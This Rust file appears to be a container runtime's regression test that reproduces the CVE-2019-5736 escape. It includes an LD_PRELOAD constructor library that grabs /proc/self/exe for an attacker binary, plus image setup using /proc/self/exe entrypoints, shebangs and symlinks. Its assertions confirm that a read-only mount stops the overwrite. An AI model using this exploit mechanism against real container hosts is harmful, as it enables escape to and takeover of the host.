//! CVE-2019-5736: overwrite the program that makes containers. The image's libraries
//! run in it when its entrypoint is `/proc/self/exe`, by name or by a script's first
//! line, at create and at exec; and a neighbour in the same pid namespace reaches for
//! `/proc/PID/exe` of whatever is born there.

use std::fs;
use std::path::Path;
use std::process::Command;

use serde_json::json;

use crate::host::Host;
use crate::round::{Attack, Outcome, exec_once, once};
use crate::support::{Case, eventually};
use crate::targets::{bind, mounts};

/// Runs in whatever loads it: keeps the program open, and hands it to the attacker.
const LIBRARY: &str = r#"
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void go(void) {
    char number[16];
    unsetenv("LD_PRELOAD");
    snprintf(number, sizeof number, "%d", open("/proc/self/exe", O_RDONLY));
    execl("/attacker", "attacker", number, (char *)0);
}
"#;

/// The attack, with the program that is to be overwritten.
pub(crate) struct Overwrite {
    fresh: Case,
    /// Its init looks out for programs; execs go there.
    lair: Case,
    lair_pid: i32,
    /// What the neighbour writes down.
    told: std::path::PathBuf,
    decoy: std::path::PathBuf,
}

impl Overwrite {
    pub(crate) fn new(host: &mut Host) -> Self {
        let own = std::env::current_exe().unwrap();
        let ground = host.canary.with_file_name("programs");
        fs::create_dir_all(&ground).unwrap();
        let (victim, decoy) = (ground.join("victim"), ground.join("decoy"));
        fs::copy(&own, &victim).unwrap();
        fs::copy(&own, &decoy).unwrap();
        host.watch(&victim);
        host.watch(&decoy);
        let attacker = compile(&ground);
        let mut fresh = Case::new(&["/proc/self/exe"]);
        let mut lair = Case::new(&["/attacker", "watch", "/told/report"]);
        for case in [&mut fresh, &mut lair] {
            case.exe = victim.clone();
            furnish(&case.dir.join("image"), &own, &attacker);
            case.set(
                "/process/env",
                json!(["PATH=/bin", "LD_PRELOAD=/library.so"]),
            );
            // What helps the attacker most: root with everything.
            case.set("/process/capabilities", json!(null));
        }
        let told = lair.dir.join("told");
        fs::create_dir(&told).unwrap();
        let all = json!([
            "CAP_DAC_OVERRIDE",
            "CAP_DAC_READ_SEARCH",
            "CAP_SYS_PTRACE",
            "CAP_KILL"
        ]);
        for case in [&mut fresh, &mut lair] {
            let sets = json!({"bounding": all, "permitted": all, "effective": all});
            case.set("/process/capabilities", sets);
            mounts(case).push(bind(&told, "/told"));
        }
        lair.set("/process/env", json!(["PATH=/bin"]));
        let lair_pid = lair.start().pid;
        lair.reap_workers();
        lair.set(
            "/process/env",
            json!(["PATH=/bin", "LD_PRELOAD=/library.so"]),
        );
        let told = told.join("report");
        eventually(|| told.exists());
        Self {
            fresh,
            lair,
            lair_pid,
            told,
            decoy,
        }
    }

    fn exec(&mut self, program: &str) -> Outcome {
        let process = self.lair.process(&[program]);
        exec_once(&mut self.lair, process)
    }

    /// A container whose processes the neighbour sees.
    fn shared(&mut self, args: &[&str]) -> Outcome {
        let plain = self.fresh.spec.clone();
        let at = format!("/proc/{}/ns/pid", self.lair_pid);
        for one in self.fresh.spec["linux"]["namespaces"]
            .as_array_mut()
            .unwrap()
        {
            if one["type"] == "pid" {
                one["path"] = json!(at);
            }
        }
        self.fresh.set("/process/args", json!(args));
        let outcome = once(&mut self.fresh);
        self.fresh.spec = plain;
        outcome
    }
}

impl Attack for Overwrite {
    fn attempt(&mut self, n: u32) -> Outcome {
        let outcome = match n % 6 {
            0 => once(&mut self.fresh),
            1 => self.exec("/proc/self/exe"),
            2 => self.exec("/script"),
            3 => self.exec("/link"),
            4 => self.shared(&["/proc/self/exe"]),
            _ => self.shared(&["true"]),
        };
        let told = fs::read_to_string(&self.told).unwrap_or_default();
        match outcome {
            _ if told.contains("BREACH") => Outcome::Ran(told),
            Outcome::Ran(out) => Outcome::Ran(format!("{out}neighbour: {told}")),
            refused @ Outcome::Refused(_) => refused,
        }
    }

    /// The same attack on a program that lies there writable.
    fn control(&mut self, _host: &Host) -> Option<Outcome> {
        let plain = self.fresh.spec.clone();
        mounts(&mut self.fresh).push(bind(&self.decoy, "/decoy"));
        self.fresh.set("/process/args", json!(["/decoy"]));
        let outcome = once(&mut self.fresh);
        self.fresh.spec = plain;
        match &outcome {
            Outcome::Ran(out) => assert!(out.contains("BREACH"), "{out}"),
            Outcome::Refused(why) => panic!("{why}"),
        }
        Some(outcome)
    }

    fn must_see(&self) -> &'static [&'static str] {
        // The attacker's code ran in our program, and was stopped by the mount.
        &["ran: Read-only file system", "neighbour: tried"]
    }
}

/// An image in which our program would run, with the library in front.
fn furnish(image: &Path, own: &Path, attacker: &Path) {
    let ldd = Command::new("ldd").arg(own).output().unwrap();
    let ldd = String::from_utf8(ldd.stdout).unwrap();
    let needed = ldd.split_whitespace().filter(|word| word.starts_with('/'));
    for library in needed {
        let to = image.join(library.strip_prefix('/').unwrap());
        fs::create_dir_all(to.parent().unwrap()).unwrap();
        fs::copy(library, to).unwrap();
    }
    for name in ["attacker", "library.so"] {
        fs::copy(attacker.with_file_name(name), image.join(name)).unwrap();
    }
    let script = image.join("script");
    fs::write(&script, "#!/proc/self/exe\n").unwrap();
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    fs::set_permissions(script, mode).unwrap();
    std::os::unix::fs::symlink("/proc/self/exe", image.join("link")).unwrap();
}

/// Builds the attacker, without libraries of its own, and the library.
fn compile(dir: &Path) -> std::path::PathBuf {
    let attacker = dir.join("attacker");
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/escapes/attacker.rs");
    let mut rustc = Command::new("rustc");
    rustc.args([
        "--edition",
        "2024",
        "-O",
        "-C",
        "target-feature=+crt-static",
        "-o",
    ]);
    assert!(rustc.arg(&attacker).arg(source).status().unwrap().success());
    let (library, text) = (dir.join("library.so"), dir.join("library.c"));
    fs::write(&text, format!("#include <stdlib.h>{LIBRARY}")).unwrap();
    let mut cc = Command::new("cc");
    let cc = cc.args(["-shared", "-fPIC", "-o"]).arg(library).arg(text);
    assert!(cc.status().unwrap().success());
    attacker
}
